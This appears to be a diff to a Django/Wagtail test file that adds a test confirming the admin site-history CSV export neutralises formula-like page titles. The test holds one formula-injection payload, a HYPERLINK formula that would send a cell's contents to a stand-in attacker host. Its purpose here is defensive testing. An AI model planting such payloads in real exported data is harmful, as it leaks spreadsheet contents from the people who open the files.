@@ -13,9 +13,9 @@ from openpyxl import load_workbook
 from commitments import services
 from commitments.models import CommitmentPage
 from commitments.ogp import columns as ogp
-from commitments.ogp.formulas import formula_guard, formula_guard_undo, formula_like
 from commitments.ogp.importer import import_ogp_commitments
 from tests.commitments.test_export import snapshot
+from tracker.formulas import formula_guard, formula_guard_undo, formula_like
 
 VARIANTS = [
     "=1+1",
@@ -206,3 +206,28 @@ def test_no_xlsx_cell_is_a_formula_and_formula_like_text_is_kept_as_text(client,
     for cells in workbook["About"].iter_rows():
         for cell in cells:
             assert cell.data_type != "f"
+
+
+# -- Wagtail's own admin exports ----------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_wagtails_admin_report_csv_guards_a_formula_like_page_title(client, imported):
+    from django.contrib.auth import get_user_model
+
+    from tests.conftest import enable_totp
+
+    user = get_user_model().objects.create_superuser("boss", "boss@example.org", "pw-long-enough-1")
+    enable_totp(user)
+    client.force_login(user)
+    page = CommitmentPage.objects.get(ogp_id="UA0087")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    page.title = formula
+    page.save_revision(user=user).publish(user=user)
+
+    response = client.get("/admin/reports/site-history/", {"export": "csv"})
+    assert response.status_code == 200
+    data = b"".join(response.streaming_content).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row]
+    assert "'" + formula in cells
+    assert not [cell for cell in cells if runs_as_formula(cell)]
